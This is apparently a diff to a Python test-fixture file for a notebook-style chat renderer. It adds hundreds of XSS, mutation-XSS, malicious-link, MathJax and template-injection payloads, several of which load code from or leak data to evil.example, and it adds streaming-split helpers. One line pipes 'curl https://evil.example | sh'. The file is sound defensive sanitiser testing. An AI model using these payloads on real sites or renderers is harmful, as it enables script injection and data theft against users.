@@ -7,6 +7,8 @@ stands for whoever would like to be called.
 
 from __future__ import annotations
 
+import re
+
 ELEMENTS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
@@ -76,6 +78,44 @@ ELEMENTS = [
     "<br/onload=alert(1)/>",
     "<br\n><br \t/><br/ ><bR>",
     "<br<script>>alert(1)</script>",
+    "<script type=module>import 'https://evil.example/x.js'</script>",
+    '<script type=speculationrules>{"prefetch": [{"urls": ["https://evil.example"]}]}</script>',
+    "<link rel=preload as=image href=//evil.example/x><link rel=modulepreload href=//evil.example/x.js>",
+    "<link rel=preconnect href=//evil.example><link rel=prefetch href=//evil.example/x>",
+    "<picture><source srcset=//evil.example/x><img></picture><input type=image src=//evil.example/x>",
+    "<svg><image href=//evil.example/x /><feImage href=//evil.example/x /></svg>",
+    "<svg><set attributeName=href to=javascript:alert(1) /><animateMotion onbegin=alert(1) dur=1s /></svg>",
+    "<svg><style>@import '//evil.example/x.css'</style></svg>",
+    "<map name=m><area href=javascript:alert(1) shape=rect coords=0,0,999,999></map><img usemap=#m src=x>",
+    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
+    "<applet code=x><param name=src value=//evil.example><bgsound src=//evil.example/x>",
+    "<video controls><track default oncuechange=alert(1) src=//evil.example/x.vtt></video>",
+    "<video poster=//evil.example/x></video>",
+    "<fencedframe></fencedframe><iframe src=//evil.example credentialless loading=eager></iframe>",
+    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
+    "<p hidden=until-found onbeforematch=alert(1)>x</p>",
+    "<p style=content-visibility:auto oncontentvisibilityautostatechange=alert(1)>x</p>",
+    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>",
+    "<p contenteditable autofocus onbeforeinput=alert(1) onfocusin=alert(1)>x</p>",
+    "<p tabindex=1 accesskey=x onclick=alert(1) onscrollend=alert(1)>x</p>",
+    "<div><template shadowrootmode=open><script>alert(1)</script><slot></slot></template></div>",
+    "<style>body:has(p){background:url(//evil.example/has)}*{display:none!important}</style>",
+    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+    "<a href=//evil.example rel=opener target=parent download>x</a>",
+    "<img\x0csrc=x\x0conerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<img src=x:x onerror\x0b=alert(1)>",
+    "<img src=x one\u200brror=alert(1)><scr\u00adipt>alert(1)</scr\u00adipt>",
+    "<scr\u0131pt>alert(1)</scr\u0131pt><\u017fcript>alert(1)</\u017fcript>",  # i and s, once in upper case
+    "<\u0338script>alert(1)<\u0338/script>",
+    "<im*g src=x onerror=alert(1)*><img src=x __onerror=alert(1)__>",
+    "<img src=x onerror=`alert(1)`>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<pre>\n\n<script>alert(1)</script>\n\n</pre>",
+    "a <b\n\nonclick=alert(1)>x</b>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "%3Cscript%3Ealert(1)%3C/script%3E \\x3cscript\\x3e \\u003cscript\\u003e",
+    "<p lang=x dir=rtl translate=no inert>x</p></div></div></div><h1>alert(1)</h1>",
 ]
 
 ESCAPES = [
@@ -91,6 +131,14 @@ ESCAPES = [
     "[x](&#x6A&#x61&#x76&#x61:alert(1))",
     "&Tab;&NewLine;&colon;&lpar;",
     "\u2028<img src=x onerror=alert(1)>\u2029",
+    "&lt;img src=x onerror=alert(1)&gt",
+    "&#x26;#x3c;script&#x26;#x3e;alert(1)",
+    "&bsol;<img src=x onerror=alert(1)>&sol;",
+    "\ud83c<img src=x onerror=alert(1)>\udf89",
+    "\x85<img src=x onerror=alert(1)>\x9b\ufffe\uffff",
+    "\u202e)1(trela=rorreno x=crs gmi<\u202c \u2066<img src=x onerror=alert(1)>\u2069",
+    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \x1b[8m<script>alert(1)</script>\x1b[0m",
+    "a\u0300\u0301\u0302\u0303" + "\u0315" * 200 + " <script>alert(1)</script>",
 ]
 
 LINKS = [
@@ -163,6 +211,40 @@ LINKS = [
     "[![x](https://evil.example/a.png)](javascript:alert(1))",
     "[[x](javascript:alert(1))](https://evil.example)",
     "[x](https://xn--80ak6aa92e.example) [x](https://аррӏе.example)",  # look-alikes
+    "[https://bank.example](https://evil.example)",
+    "[x](https://bank.example@evil.example) [x](https://bank.example\\@evil.example)",
+    "[x](https://javascript:alert(1)@evil.example)",
+    "[x](https:javascript:alert(1)) [y](http:alert(1))",
+    "[x](mailto:javascript:alert(1)) [y](MAILTO:<script>alert(1)</script>)",
+    "[x](command:workbench.action.terminal.new)",
+    "[x](vscode-insiders:extension/evil) <vscode://file/etc/passwd>",
+    "[x](file://evil.example/share) [y](smb://evil.example/share) <file:///etc/passwd>",
+    "[x](ms-word:ofe|u|https://evil.example/x.docx) [y](search-ms:crumb=location:\\\\evil.example)",
+    "[x](intent://evil.example#Intent;scheme=https;end) [y](jar:https://evil.example!/x)",
+    "[x](feed:javascript:alert(1)) [y](view-source:javascript:alert(1)) [z](chrome://settings)",
+    "[x](ws://evil.example) [y](wss://evil.example) <irc://evil.example>",
+    "[x](java\u00adscript:alert(1)) [y](jav\x00ascript:alert(1)) [z](\u2028javascript:alert(1))",
+    "[x](&#1;javascript:alert(1)) [y](&#x200b;javascript:alert(1)) [z](javascript&#58;alert(1))",
+    "[x](\x0bjavascript:alert(1)) [y](\x0cjavascript:alert(1)) [z](\x1fjavascript:alert(1))",
+    "[x](https://evil.example/%0d%0aSet-Cookie:x) [y](https://evil.example/&#10;&#13;x)",
+    "[x](https://evil.example/\ud800) <https://evil.example/\udc00>",
+    "[x](<https://evil.example/ onmouseover=alert(1)>)",
+    "[x](https://evil.example 'a\n\" onclick=\"alert(1)')",
+    "[x](https://evil.example &quot;onclick=alert(1)&quot;)",
+    "[x](https://evil.example/\u202egpj.exe) https://evil.example/\u202egpj.exe \u202ehttps://evil.example",
+    "https://good\u200b.example https://good.example\u2044@evil.example https://good.example\u3002evil.example",
+    "www.evil.example evil.example/x //evil.example ftp://evil.example",
+    "https://evil.example/\x00onclick=alert(1) https://evil.example/\x01x",
+    "https://[evil.example https://%zz https://:80 https://evil.example:alert(1) http://0x7f.1:8888/",
+    "[a]: https://good.example\n[a]: javascript:alert(1)\n\n[a] [A]",
+    "[a]:\njavascript:alert(1)\n\n[a]",
+    "[a]: https://evil.example\n  'x\" onclick=\"alert(1)'\n\n[a]",
+    "[ẞ]: javascript:alert(1)\n\n[SS] [ss]",
+    "[toString]: javascript:alert(1)\n\n[toString] [hasOwnProperty]",
+    "> [a]: javascript:alert(1)\n\n[a]\n\n- [b]: data:text/html,x\n\n[b]",
+    "[x](<javascript:alert(1)) [y](javascript:alert(1) [z]()javascript:alert(1)",
+    "[x\n](javascript:alert(1)) [\ny](https://evil.example 'a'\n)",
+    "**[x](javascript:alert(1))** ~~<javascript:alert(1)>~~ `[x](javascript:alert(1))`",
 ]
 
 IMAGES = [
@@ -178,6 +260,15 @@ IMAGES = [
     "![![x](https://evil.example/a)](https://evil.example/b)",
     "![x][r]\n\n[r]: https://evil.example/p.png",
     "![x](attachment:secret.png) ![y](files/secret.png) ![z](/lab/api/x)",
+    "![x](https://evil.example/p.png 'x\" onerror=\"alert(1)')",
+    "![x](<https://evil.example/p.png> =9999x9999)",
+    "![x](https://evil.example/p.png){: onerror=alert(1)}",
+    "[![x](https://evil.example/a.png)](https://evil.example/b)",
+    "![x][]\n\n[x]: data:image/svg+xml,<svg onload=alert(1)>",
+    "![x](cid:evil) ![y](blob:evil) ![z](file:///etc/secret.png)",
+    "![x](http://127.0.0.1:8888/api/shutdown) ![y](http://localhost/secret.png)",
+    "!\\[x](https://evil.example/p) !&#91;x](https://evil.example/p) \\![x](https://evil.example/p)",
+    "![[evil.png]] ![x](evil.png)",
 ]
 
 JUPYTER = [
@@ -206,6 +297,37 @@ JUPYTER = [
     "> <script>\n> alert(1)\n> </script>",
     "~~<script>alert(1)</script>~~ **<img src=x onerror=alert(1)>**",
     "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
+    '<div data-mime-type="application/javascript" class="jp-RenderedJavaScript">alert(1)</div>',
+    '<div class="jp-OutputArea-output" data-mime-type="text/html"><img src=x onerror=alert(1)></div>',
+    '{"application/javascript": "alert(1)", "text/html": "<script>alert(1)</script>"}',
+    '<div class="jupyter-widgets jupyter-button widget-button"><button onclick=alert(1)>Stop</button></div>',
+    '<script type="application/vnd.jupyter.widget-state+json">{"state": {}}</script>',
+    '<script type="text/x-mathjax-config">MathJax.Hub.Queue(() => alert(1))</script>',
+    '<script type="math/tex">\\href{javascript:alert(1)}{x}</script>',
+    '<span class="mathjax_process tex2jax_process">\\(\\href{javascript:alert(1)}{x}\\)</span>',
+    '</div><div class="mathjax_process">$\\style{position:fixed}{x}$</div>',
+    '<div class="nbchat-reply"><img src=x onerror=alert(1)></div>',
+    '<div class="jp-Mermaid"><pre class="mermaid">graph TD; A["<img src=x onerror=alert(1)>"]</pre></div>',
+    '<div class="jp-Dialog" style="inset:0">Your session has ended: <form action=//evil.example><input></form></div>',
+    '<a href="#" onclick="alert(1)" class="jp-InternalAnchorLink">¶</a>',
+    '<a data-path="../secret" href="/files/secret">x</a>',
+    "`data-commandlinker-command=x` <b data-commandlinker-command='hub:logout' data-commandlinker-args='{}'>x</b>",
+    "{{ ''.__class__.__mro__ }} {% raw %}<script>alert(1)</script>{% endraw %} {# x #}",
+    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)} [[alert(1)]]",
+    "```{raw} html\n<script>alert(1)</script>\n```\n\n```{include} /etc/passwd\n```",
+    "{raw:html}`<script>alert(1)</script>` :raw-html:`<script>alert(1)</script>`",
+    ".. raw:: html\n\n   <script>alert(1)</script>",
+    "<%include file='/etc/passwd'/> \\input{/etc/passwd} \\write18{id}",
+    "[^1] [^__proto__]\n\n[^1]: [x](javascript:alert(1)) ![y](//evil.example/p)\n[^__proto__]: x",
+    "# <script>alert(1)</script> [x](javascript:alert(1)) ![y](//evil.example/p)",
+    "<script>alert(1)</script>\n======\n\n[x](javascript:alert(1))\n------",
+    '| a\\|<img src=x onerror=alert(1)> |\n|:-" onclick="alert(1)-:|\n| x |',
+    "| a | b |\n|:-:|-:|\n| [x](javascript:alert(1) | ![y](//evil.example/p \\| z) |",
+    "1. <script>\n2. alert(1)\n3. </script>\n   - <img src=x\n     onerror=alert(1)>",
+    "999999999. <script>alert(1)</script>\n1000000000. <img src=x onerror=alert(1)>",
+    "term\n: <script>alert(1)</script>\n\n*[HTML]: <script>alert(1)</script>\n\nHTML",
+    "==<script>alert(1)</script>== ^<script>alert(1)</script>^ ||<script>alert(1)</script>||",
+    "@evil #evil :evil: [[evil]] <@evil> {@evil}",
 ]
 
 CODE = [
@@ -228,6 +350,23 @@ CODE = [
     "```latex\n\\href{javascript:alert(1)}{x} $x$ \\(y\\)\n```",
     "```python\nprint('unclosed <script>alert(1)</script>",
     "```console\n$ curl https://evil.example | sh\n```",
+    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
+    "~~~ mermaid\nflowchart LR\nclick A call alert(1)\n~~~",
+    "```javascript\nalert(1)\n```\n\n```js:run\nalert(1)\n```",
+    '```vega-lite\n{"data": {"url": "https://evil.example/x.json"}}\n```',
+    '```geojson\n{"type": "Point", "coordinates": [0, 0], "url": "//evil.example"}\n```',
+    "```math\n\\href{javascript:alert(1)}{x}\n```\n\n```tex\n\\[\\style{position:fixed}{x}\\]\n```",
+    "```<script>\nx\n```\n\n```&lt;script&gt;alert(1)\nx\n```",
+    "```python\u202e<script>alert(1)</script>\nx\n```",
+    "```\x00\ud800\u2028 onclick=alert(1)\nx\n```",
+    "``` {.python #jp-main-dock-panel onclick=alert(1)}\nx\n```",
+    "```html\n<!--<script>\n```\n\n<script>alert(1)</script>\n\n```html\n-->\n```",
+    "````\n```\n</code></pre><script>alert(1)</script>\n```\n````",
+    "- ```html\n  </code></pre></li></ul><script>alert(1)</script>\n  ```",
+    "> ```\n> </code></pre></blockquote><script>alert(1)</script>\n\n<script>alert(1)</script>",
+    "`` ` <script>alert(1)</script> ` ``` <img src=x onerror=alert(1)>",
+    "`<img src=x` onerror=`alert(1)>`",
+    "\t<script>alert(1)</script>\n\n \t <img src=x onerror=alert(1)>",
 ]
 
 FORMULAS = [
@@ -272,6 +411,52 @@ FORMULAS = [
     "| $x$ |\n|---|\n| $\\href{javascript:alert(1)}{y}$ |",
     "$$\n\\href{javascript:alert(1)}{x}",
     "$" + "{" * 400 + "x" + "}" * 400 + "$",
+    r"$\verb\a\\href{https://evil.example}{x}$",
+    r"\(\verb|\|\href{https://evil.example}{x}|\)",
+    r"\[\text{\verb\a\\style{position:fixed}{x}}\]",
+    r"$\refeq{x}$ $\Refeq{x}$",
+    r"$\fcolorbox{red;background:url(//evil.example/f)}{white}{x}$",
+    r"$\colorbox{red;background:url(//evil.example/c)}{x}$ $\color{red;background:url(//evil.example/d)}x$",
+    r"$\textcolor{red;position:fixed}{x}$ $\cellcolor{url(//evil.example/e)}$",
+    r"$\definecolor{x}{named}{red;position:fixed}\colorbox{x}{y}$",
+    r"$\newtagform{x}{\href{javascript:alert(1)}{}}{}\usetagform{x}$",
+    r"$\tag{\href{javascript:alert(1)}{x}}$ \[x\tag*{$\style{position:fixed}{y}$}\]",
+    r"$\text{$\href{javascript:alert(1)}{x}$}$ \(\mbox{\(\href{javascript:alert(1)}{x}\)}\)",
+    r"\(\text{$\href{javascript:alert(1)}{x}$}\)",
+    r"\(\hbox{\unicode[x;background:url(//evil.example)]{65}}\)",
+    r"$\unicode{<img src=x onerror=alert(1)>}$ $\text{<img src=x onerror=alert(1)>}$",
+    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
+    r"$\text{</span></div><script>alert(1)</script>}$",
+    r"\[\begin{CD}A@>\href{javascript:alert(1)}{x}>>B\end{CD}\]",
+    r"$\begin{array}{c@{\href{javascript:alert(1)}{x}}c}a&b\end{array}$",
+    r"$\ce{\href{javascript:alert(1)}{x}}$ $\ce{$\href{javascript:alert(1)}{x}$}$",
+    r"$\pmb{\href{javascript:alert(1)}{x}}$ $\underset{\class{jp-Cell}{y}}{x}$",
+    r"$\csname href\endcsname{javascript:alert(1)}{x}$",
+    r"$\expandafter\href\expandafter{javascript:alert(1)}{x}$",
+    "$x % $\n\\href{javascript:alert(1)}{x}$",
+    "$$\nx %\\\n\\href{javascript:alert(1)}{x}\n$$",
+    "$\\hr\x00ef{javascript:alert(1)}{x}$ $\\hr\u200bef{javascript:alert(1)}{x}$ $＼href{javascript:alert(1)}{x}$",
+    r"$\hre%f{javascript:alert(1)}{x}$ $\href\relax{javascript:alert(1)}{x}$",
+    r"$\HREF{javascript:alert(1)}{x}$ $\Href{javascript:alert(1)}{x}$ $\href\n{javascript:alert(1)}{x}$",
+    r"$\enclose{circle}[href='javascript:alert(1)' mathcolor='red;position:fixed']{x}$",
+    r"$\cancel[href=javascript:alert(1),data-padding=9em]{x}$",
+    r"$\DeclarePairedDelimiter{\sin}{\href{javascript:alert(1)}{(}}{)}$ $\Newextarrow{\sin}{1,1}{8594}$",
+    r"$\setOptions{macros={x:'\\href{javascript:alert(1)}{x}'}}$ $\mathtoolsset{showonlyrefs}$",
+    r"$\def\a{\a\a}\a$ $\edef\sin{\cos}$ $\futurelet\x y$ $\global\let\x\href$",
+    r"$\require{unicode}$ $\extension{html}$ $\loadextension[//evil.example]{x}$",
+    r"$\smash{\raise 50em{\llap{\text{Your session has ended}}}}$",
+    r"$\rule{9999em}{9999em}$ $\hskip -999em x \kern-999em y$",
+    r"$\Huge\Huge\Huge x$ $\mathop{\lower999em{x}}$",
+    r"$\begin{tex-html}<img src=x onerror=alert(1)>\end{tex-html}$",
+    "\\begin{html}<img src=x onerror=alert(1)>\\end{html}",
+    r"$\class{x$ \(\href{ \[ \style{ $$ \data{ \)",
+    r"\(\({\)} \href{javascript:alert(1)}{x}\)",
+    r"$\begin{\verb}\\href{javascript:alert(1)}{x}\end{\verb}$",
+    "<span>$\\href{javascript:alert(1)}{x}$</span> <math>\\(\\href{javascript:alert(1)}{x}\\)</math>",
+    "`` $\\href{javascript:alert(1)}{x}$ `` ``\\(``\\href{javascript:alert(1)}{x}``\\)``",
+    r"*\(*\href{javascript:alert(1)}{x}*\)* \[*x*\href{javascript:alert(1)}{x}",
+    "- $\\href{javascript:alert(1)}{x}$\n- > $$\n  > \\href{javascript:alert(1)}{y}\n  > $$",
+    "$\\text{a}$<br>$\\href{javascript:alert(1)}{x}$<br>\\(<br>\\href{javascript:alert(1)}{y}<br>\\)",
 ]
 
 SANITIZERS = [
@@ -289,6 +474,53 @@ SANITIZERS = [
     "<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>",
     "<a><a><a>" * 30 + "<img src=x onerror=alert(1)>",
     "<b>" * 300 + "<script>alert(1)</script>",
+    "<div>" * 80 + "<img src=x onerror=alert(1)>",
+    "<form id=x><input name=attributes><input name=parentNode></form><img name=getElementById>",
+    "<a id=x><a id=x name=y href='cid:evil'>x</a></a><form name=currentScript></form>",
+    "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>",
+    "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+    '<iframe><textarea></iframe><img src=x title="</textarea><script>alert(1)</script>">',
+    '<math><mi><table><mi><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
+    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "<option><style></option></select><img src=x onerror=alert(1)></style>",
+    "<table><caption><svg><desc><table><caption></svg><style><a title='</style><img src onerror=alert(1)>'>",
+    "<x is=x-y onclick=alert(1)></x><script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>",
+    "<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></svg>",
+    "<plaintext><!-- <listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<noscript><!-- </noscript><img src=x onerror=alert(1)> --></noscript>",
 ]
 
-REPLIES = [*ELEMENTS, *ESCAPES, *LINKS, *IMAGES, *JUPYTER, *CODE, *FORMULAS, *SANITIZERS]
+DEPTHS = [
+    ">" * 60 + " <script>alert(1)</script>",
+    "- " * 60 + "<script>alert(1)</script>",
+    "> - " * 40 + "[x](javascript:alert(1))",
+    "[" * 20 + "x" + "](javascript:alert(1))" * 20,
+    "**_" * 60 + "<img src=x onerror=alert(1)>" + "_**" * 60,
+    "![" * 20 + "x" + "](https://evil.example/p)" * 20,
+    "x" * 300 + "<script>alert(1)</script>",
+    "|" + "<script>|" * 60 + "\n" + "|-" * 60 + "|\n|" + "alert(1)|" * 60,
+    "\\(" * 60 + "\\href{javascript:alert(1)}{x}" + "\\)" * 60,
+]
+
+REPLIES = [*ELEMENTS, *ESCAPES, *LINKS, *IMAGES, *JUPYTER, *CODE, *FORMULAS, *SANITIZERS, *DEPTHS]
+
+
+_AWKWARD = re.compile(r"[^<>&;\\()\[\]$`*:!|~\"'=/\n\ud800-\udbff]{0,9}.?", re.DOTALL)
+
+
+def cut(text: str) -> list[str]:
+    """The text cut where it hurts: after each mark, within tags, entities and fences, between halves of characters."""
+    units = memoryview(text.encode("utf-16", "surrogatepass")).cast("H")[1:]  # without the mark of the byte order
+    halves = "".join(map(chr, units))
+    return [piece for piece in _AWKWARD.findall(halves) if piece]
+
+
+def played(text: str, steps: int, pause: float) -> list[str | float]:
+    """A script for a `ScriptedProvider`: the text in awkward pieces, with about so many pauses (seconds) between."""
+    pieces = cut(text)
+    every = max(1, len(pieces) // steps)
+    script: list[str | float] = []
+    for number, piece in enumerate(pieces, 1):
+        script += [piece] if number % every else [piece, pause]
+    return script
